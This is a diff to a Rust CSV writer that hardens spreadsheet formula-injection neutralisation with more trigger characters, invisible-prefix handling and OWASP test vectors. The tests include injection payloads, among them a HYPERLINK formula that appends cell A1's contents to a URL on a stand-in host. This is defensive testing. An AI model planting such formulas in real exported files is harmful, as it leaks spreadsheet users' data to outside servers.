@@ -1,9 +1,12 @@
 //! CSV for spreadsheet programs: UTF-8 with a byte-order mark (without it, Excel on Windows
 //! opens Hebrew and Arabic as mojibake), CRLF line ends, RFC 4180 quoting, and formula-injection
 //! neutralisation (reliability notes §2.3): a text cell that a spreadsheet would run as a
-//! formula — starting with `=`, `+`, `-`, `@`, a tab or a carriage return, also after leading
-//! spaces or invisible bidi marks — gets a leading apostrophe. Numbers stay numbers: `-2.5` is
-//! not a formula.
+//! formula — starting with `=`, `+`, `-`, `@`, a tab, CR, LF, NUL, the full-width `＝ ＋ － ＠`
+//! or `{=`, also after leading spaces, no-break spaces, bidi marks or a BOM — gets a leading
+//! apostrophe (OWASP CSV Injection; OWASP ASVS 5.0 §1.2.10; Papa Parse `escapeFormulae`, which
+//! also leaves apostrophe-led text alone). Numbers stay numbers: `-2.5` is not a formula. Fields
+//! are quoted only when RFC 4180 requires it; the apostrophe alone keeps a spreadsheet from
+//! evaluating the field.
 
 /// Writes rows of text cells as CSV bytes.
 #[derive(Debug, Clone)]
@@ -50,12 +53,38 @@ impl CsvWriter {
     }
 }
 
-/// Prefixes an apostrophe to text that a spreadsheet would treat as a formula.
+/// Characters a spreadsheet may read before a formula trigger without showing them: spaces,
+/// no-break spaces, directional marks, embeddings, overrides and isolates, the zero-width space
+/// and the byte-order mark.
+fn is_invisible_lead(c: char) -> bool {
+    matches!(
+        c,
+        ' ' | '\u{00A0}'
+            | '\u{061C}'
+            | '\u{200B}'
+            | '\u{200E}'
+            | '\u{200F}'
+            | '\u{202A}'..='\u{202E}'
+            | '\u{2066}'..='\u{2069}'
+            | '\u{FEFF}'
+    )
+}
+
+/// Whether `s` starts with a formula trigger (OWASP CSV Injection, ASVS 1.2.10): `=`, `+`,
+/// `-`, `@`, tab, CR, LF, NUL, their full-width forms `＝ ＋ － ＠`, or `{=` (an array formula).
+fn starts_with_trigger(s: &str) -> bool {
+    s.starts_with([
+        '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+    ]) || s.starts_with("{=")
+}
+
+/// Prefixes an apostrophe to text that a spreadsheet would treat as a formula: text whose first
+/// character, or first character after invisible leading characters (spaces, no-break spaces,
+/// bidi marks, the BOM), is a trigger (see the module documentation). A finite number written
+/// plainly (`-2.5`, `+3`, `-1e3`) is left alone, and so is text already led by an apostrophe.
 pub fn neutralize(cell: &str) -> std::borrow::Cow<'_, str> {
-    let start = cell.trim_start_matches(|c: char| {
-        c == ' ' || matches!(c, '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{FEFF}')
-    });
-    let risky = start.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let start = cell.trim_start_matches(is_invisible_lead);
+    let risky = starts_with_trigger(start);
     let is_number =
         !start.is_empty() && start.parse::<f64>().is_ok_and(f64::is_finite) && start == cell;
     if risky && !is_number {
@@ -81,6 +110,46 @@ mod tests {
         assert_eq!(neutralize("-2.5"), "-2.5");
         assert_eq!(neutralize("-"), "'-");
         assert_eq!(neutralize("שלום"), "שלום");
+    }
+
+    // Reliability notes tests D34–D38.
+    #[test]
+    fn owasp_and_notes_vectors() {
+        for (input, want) in [
+            ("=1+1", "'=1+1"),
+            ("+1+1", "'+1+1"),
+            ("-1+1", "'-1+1"),
+            ("@SUM(1,1)", "'@SUM(1,1)"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1+1", "'\r=1+1"),
+            ("\n=1", "'\n=1"),
+            ("\0x", "'\0x"),
+            ("\u{FF1D}1+1", "'\u{FF1D}1+1"),
+            ("{=1+1}", "'{=1+1}"),
+            (" =1+1", "' =1+1"),
+            ("\u{00A0}=1+1", "'\u{00A0}=1+1"),
+            ("\u{200F}=1+1", "'\u{200F}=1+1"),
+            ("\u{2067}=1+1", "'\u{2067}=1+1"),
+            ("'+safe", "'+safe"),
+            ("-5", "-5"),
+            ("-0.25", "-0.25"),
+            ("-inf", "'-inf"),
+            ("{a}", "{a}"),
+        ] {
+            assert_eq!(neutralize(input), want, "{input:?}");
+        }
+        let mut w = CsvWriter::new();
+        w.row(&[
+            "=1+2\";=1+2",
+            "=1+2'\" ;,=1+2",
+            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
+        ]);
+        let bytes = w.into_bytes();
+        let text = std::str::from_utf8(&bytes[3..]).unwrap();
+        assert_eq!(
+            text,
+            "\"'=1+2\"\";=1+2\",\"'=1+2'\"\" ;,=1+2\",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\"\r\n"
+        );
     }
 
     #[test]
